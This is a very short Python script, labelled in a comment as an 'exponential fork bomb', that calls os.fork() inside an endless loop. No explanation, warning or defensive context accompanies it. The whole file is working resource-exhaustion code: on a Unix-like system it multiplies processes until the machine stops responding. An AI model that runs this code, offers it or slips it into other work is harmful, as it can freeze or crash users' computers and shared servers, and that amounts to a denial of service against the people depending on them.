# exponential fork bomb
# @mark
import os

while True:
    os.fork()
